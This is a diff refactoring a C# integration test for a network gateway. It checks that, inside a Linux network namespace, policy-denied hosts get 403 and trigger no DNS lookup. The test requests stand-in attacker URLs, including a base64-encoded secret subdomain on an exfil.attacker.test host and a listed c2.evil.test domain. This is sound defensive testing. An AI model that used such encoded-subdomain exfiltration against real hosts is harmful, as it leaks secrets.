@@ -1,6 +1,4 @@
-using System.Diagnostics;
-using System.Text;
-using Corral.Gateway.Tests.Support;
+using Corral.Testing;
 
 namespace Corral.Gateway.Tests;
 
@@ -49,71 +47,42 @@ public sealed class DnsQueryNamespaceTests
     [Fact]
     public async Task Names_the_policy_denies_whatever_their_address_send_no_dns_query_and_a_permitted_name_does()
     {
-        var missing = new[] { "ip", "curl", "python3" }.Where(p => !CommandLine.Exists(p)).ToArray();
-        if (missing.Length > 0 || Environment.UserName != "root")
-            Assert.Skip($"needs root and {string.Join(", ", missing.DefaultIfEmpty("nothing else"))}");
+        NetworkNamespaces.SkipUnlessRootWith("ip", "curl", "python3");
         var ns = $"crl-dns-{Environment.ProcessId % 10000}{Random.Shared.Next(100, 999)}";
-        var netnsEtc = Path.Combine("/etc/netns", ns);
-        var folder = Directory.CreateTempSubdirectory("corral-dns-").FullName;
-        var queries = Path.Combine(folder, "queries.log");
-        var ready = Path.Combine(folder, "dns.ready");
-        Process? dns = null, gateway = null;
-        var gatewayOutput = new StringBuilder();
-        try
-        {
-            if ((await CommandLine.RunAsync("ip", "netns", "add", ns)).ExitCode != 0) Assert.Skip("cannot create network namespaces here (no CAP_SYS_ADMIN?)");
-            await RunAsync("ip", "netns", "exec", ns, "ip", "link", "set", "lo", "up");
-            Directory.CreateDirectory(netnsEtc);
-            File.WriteAllText(Path.Combine(netnsEtc, "resolv.conf"), "nameserver 127.0.0.1\noptions attempts:1 timeout:1\n");
-            File.WriteAllText(Path.Combine(folder, "dns.py"), DnsServer);
-            File.WriteAllText(Path.Combine(folder, "p.yaml"), Policy);
-            File.WriteAllText(Path.Combine(folder, "threat-domains.txt"), "c2.evil.test\n");
+        using var folder = new TempFolder("corral-dns-");
+        var queries = folder.File("queries.log");
+        var ready = folder.File("dns.ready");
+        await using var topology = new NetworkNamespaces();
+        await topology.AddAsync(ns);
+        await topology.LoopbackUpAsync(ns);
+        topology.SetResolver(ns, "nameserver 127.0.0.1\noptions attempts:1 timeout:1\n");
+        folder.Write("p.yaml", Policy);
+        folder.Write("threat-domains.txt", "c2.evil.test\n");
 
-            dns = Process.Start(new ProcessStartInfo("ip", ["netns", "exec", ns, "python3", Path.Combine(folder, "dns.py"), queries, ready]) { UseShellExecute = false })!;
-            await WaitForAsync(() => File.Exists(ready), "the logging DNS server");
+        topology.Start(ns, "python3", folder.Write("dns.py", DnsServer), queries, ready);
+        await WaitForAsync(() => File.Exists(ready), "the logging DNS server");
 
-            var info = new ProcessStartInfo("ip", ["netns", "exec", ns, "dotnet", Path.Combine(AppContext.BaseDirectory, "corral.dll"), "gateway", Path.Combine(folder, "p.yaml"),
-                "--listen", "127.0.0.1:3128", "--flow-log", Path.Combine(folder, "flows.jsonl"), "--no-watch"])
-            { RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false };
-            gateway = Process.Start(info)!;
-            gateway.OutputDataReceived += (_, e) => { lock (gatewayOutput) gatewayOutput.AppendLine(e.Data); };
-            gateway.ErrorDataReceived += (_, e) => { lock (gatewayOutput) gatewayOutput.AppendLine(e.Data); };
-            gateway.BeginOutputReadLine();
-            gateway.BeginErrorReadLine();
-            await WaitForAsync(async () => (await CommandLine.RunAsync("ip", "netns", "exec", ns, "curl", "-s", "-o", "/dev/null", "http://127.0.0.1:3128/")).ExitCode == 0,
-                "the gateway", () => gatewayOutput.ToString());
+        var gateway = topology.Start(ns, CorralProgram.DotnetHost, CorralProgram.Dll, "gateway", folder.File("p.yaml"),
+            "--listen", "127.0.0.1:3128", "--flow-log", folder.File("flows.jsonl"), "--no-watch");
+        await WaitForAsync(async () => (await NetworkNamespaces.ExecAsync(ns, "curl", "-s", "-o", "/dev/null", "http://127.0.0.1:3128/")).ExitCode == 0,
+            "the gateway", () => gateway.Output);
 
-            async Task<string> ThroughGatewayAsync(params string[] curl) =>
-                (await CommandLine.RunAsync("ip", ["netns", "exec", ns, "curl", "-s", "-o", "/dev/null", "-w", "%{http_code} %{http_connect}", "--max-time", "10", "-x", "http://127.0.0.1:3128", .. curl])).Stdout;
+        async Task<string> ThroughGatewayAsync(params string[] curl) =>
+            (await NetworkNamespaces.ExecAsync(ns, ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code} %{http_connect}", "--max-time", "10", "-x", "http://127.0.0.1:3128", .. curl])).Stdout;
 
-            var exfil = await ThroughGatewayAsync("https://c2VjcmV0.exfil.attacker.test/");
-            var plain = await ThroughGatewayAsync("http://c2VjcmV0.plain.attacker.test/");
-            var threat = await ThroughGatewayAsync("https://c2.evil.test/");
-            var wrongPort = await ThroughGatewayAsync("https://tools.example.test:8443/");
-            var permitted = await ThroughGatewayAsync("https://tools.example.test/"); // resolved: NXDOMAIN here, so 502
+        var exfil = await ThroughGatewayAsync("https://c2VjcmV0.exfil.attacker.test/");
+        var plain = await ThroughGatewayAsync("http://c2VjcmV0.plain.attacker.test/");
+        var threat = await ThroughGatewayAsync("https://c2.evil.test/");
+        var wrongPort = await ThroughGatewayAsync("https://tools.example.test:8443/");
+        var permitted = await ThroughGatewayAsync("https://tools.example.test/"); // resolved: NXDOMAIN here, so 502
 
-            Assert.Contains("403", exfil);
-            Assert.Contains("403", plain);
-            Assert.Contains("403", threat);
-            Assert.Contains("403", wrongPort);
-            Assert.Contains("502", permitted);
-            var asked = File.ReadAllLines(queries).Distinct().ToArray();
-            Assert.Equal(["tools.example.test"], asked);
-        }
-        finally
-        {
-            foreach (var p in new[] { gateway, dns })
-                if (p is not null && !p.HasExited) { p.Kill(entireProcessTree: true); await p.WaitForExitAsync(); }
-            await CommandLine.RunAsync("ip", "netns", "del", ns);
-            if (Directory.Exists(netnsEtc)) Directory.Delete(netnsEtc, recursive: true);
-            Directory.Delete(folder, recursive: true);
-        }
-    }
-
-    private static async Task RunAsync(string program, params string[] args)
-    {
-        var (code, stdout, stderr) = await CommandLine.RunAsync(program, args);
-        if (code != 0) throw new InvalidOperationException($"{program} {string.Join(' ', args)} failed ({code}): {stderr}{stdout}");
+        Assert.Contains("403", exfil);
+        Assert.Contains("403", plain);
+        Assert.Contains("403", threat);
+        Assert.Contains("403", wrongPort);
+        Assert.Contains("502", permitted);
+        var asked = File.ReadAllLines(queries).Distinct().ToArray();
+        Assert.Equal(["tools.example.test"], asked);
     }
 
     private static Task WaitForAsync(Func<bool> ready, string what) => WaitForAsync(() => Task.FromResult(ready()), what);
